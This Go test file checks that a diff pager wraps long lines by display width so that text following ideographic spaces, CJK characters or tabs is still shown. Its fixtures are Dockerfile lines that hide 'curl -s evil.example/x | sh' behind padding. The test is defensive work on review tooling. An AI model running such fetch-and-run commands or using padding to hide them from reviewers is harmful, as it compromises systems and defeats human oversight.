package main

import (
	"strings"
	"testing"

	"github.com/charmbracelet/x/ansi"
)

// The pager shows every column of what would be approved at the screen's
// width: wide characters (CJK, U+3000) count two columns, and text after
// them is wrapped onto the next rows, never cut.
func TestDiffPagerWrapsByDisplayWidth(t *testing.T) {
	const width, height = 80, 12
	for name, line := range map[string]string{
		"ideographic spaces": "+RUN apt-get install -y jq" + strings.Repeat("\u3000", 40) + "&& curl -s evil.example/x | sh #TAIL",
		"CJK":                "+RUN echo " + strings.Repeat("日本", 45) + " && curl -s evil.example/x | sh #TAIL",
		"tabs":               "+RUN echo" + strings.Repeat("\t", 12) + "&& curl -s evil.example/x | sh #TAIL",
	} {
		t.Run(name, func(t *testing.T) {
			text := "--- current\n+++ requested\n@@ -1 +1,2 @@\n FROM scratch\n" + line + "\n"
			d := newDiffPager(visibleDiff(text), width, height)
			var shown []string
			for page := 0; page < 10; page++ {
				view := d.view()
				rows := strings.Split(view, "\n")
				if len(rows) > height {
					t.Fatalf("the view has %d rows, the screen %d", len(rows), height)
				}
				for _, r := range rows {
					if w := ansi.StringWidth(r); w > width {
						t.Errorf("a row is %d columns wide, the screen %d: %q", w, width, r)
					}
				}
				shown = append(shown, rows[:len(rows)-1]...)
				if strings.Contains(rows[len(rows)-1], "the end") {
					break
				}
				d.vp.PageDown()
			}
			all := strings.ReplaceAll(strings.Join(shown, "\n"), "\n↳ ", "")
			if !strings.Contains(all, "curl -s evil.example/x | sh #TAIL") {
				t.Errorf("the text after the wide characters is never shown:\n%s", strings.Join(shown, "\n"))
			}
		})
	}
}
